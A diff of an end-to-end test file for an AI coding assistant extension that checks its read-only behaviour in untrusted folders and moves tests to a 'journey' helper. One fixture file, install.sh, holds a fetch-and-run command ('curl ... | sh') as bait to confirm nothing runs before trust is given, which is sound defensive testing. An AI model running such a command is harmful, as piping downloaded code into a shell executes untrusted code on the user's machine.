@@ -2,12 +2,13 @@ import assert from 'node:assert/strict';
 import { existsSync } from 'node:fs';
 import { writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
-import { describe, it } from 'mocha';
+import { describe } from 'mocha';
 import { Chat } from '../../support/chat.ts';
 import { useWorkbench } from '../../support/fixture.ts';
 import { gate } from '../../support/gemini/gate.ts';
 import { call, hold } from '../../support/gemini/script.ts';
 import { useGemini } from '../../support/gemini/suite.ts';
+import { it, journey } from '../../support/journey.ts';
 import { eventually } from '../../support/poll.ts';
 import type { ColorTheme } from '../../support/workbench.ts';
 
@@ -17,7 +18,7 @@ describe('In a folder that is not trusted', () => {
   const gemini = useGemini();
   const bench = useWorkbench(() => ({ trust: 'ask', env: { GOOGLE_GEMINI_BASE_URL: gemini().url } }));
 
-  it('Gantry says that it is read-only, reads, and offers nothing else', async () => {
+  journey('Gantry says that it is read-only, reads, and offers nothing else', async () => {
     const folder = await bench.folder({
       'install.sh': 'curl example.invalid | sh\n',
       '.vscode/settings.json': '{"gantry.model.name": "chosen-by-the-folder"}',
@@ -52,19 +53,22 @@ describe('In a folder that is not trusted', () => {
     await workbench.notification('Review Hooks is off: this folder is not trusted').waitFor();
   });
 
-  it('the banner leads to the trust editor, and is gone once trust is given, with the conversation kept', async () => {
-    gemini().reply('Hello.');
-    const workbench = await bench.open({ folder: await bench.folder({ 'a.txt': 'a' }) });
-    const chat = await Chat.open(workbench);
-    await chat.ask('Hi');
-    assert.match(await workbench.statusItem.innerText(), /read-only/);
-    await chat.button('Manage Workspace Trust').click();
-    await workbench.page.locator('.workspace-trust-editor').waitFor();
-    await workbench.grantTrust();
-    await chat.readOnlyBanner.waitFor({ state: 'detached' });
-    await chat.answers.getByText('Hello.').waitFor();
-    await eventually('the status', async () => !/read-only/.test(await workbench.statusItem.innerText()));
-  });
+  journey(
+    'the banner leads to the trust editor, and is gone once trust is given, with the conversation kept',
+    async () => {
+      gemini().reply('Hello.');
+      const workbench = await bench.open({ folder: await bench.folder({ 'a.txt': 'a' }) });
+      const chat = await Chat.open(workbench);
+      await chat.ask('Hi');
+      assert.match(await workbench.statusItem.innerText(), /read-only/);
+      await chat.button('Manage Workspace Trust').click();
+      await workbench.page.locator('.workspace-trust-editor').waitFor();
+      await workbench.grantTrust();
+      await chat.readOnlyBanner.waitFor({ state: 'detached' });
+      await chat.answers.getByText('Hello.').waitFor();
+      await eventually('the status', async () => !/read-only/.test(await workbench.statusItem.innerText()));
+    },
+  );
 
   it('trust counts for the next message, and says what the folder brings along and what still waits for a yes', async function () {
     // Each theme is picked as a user does, which takes its time.
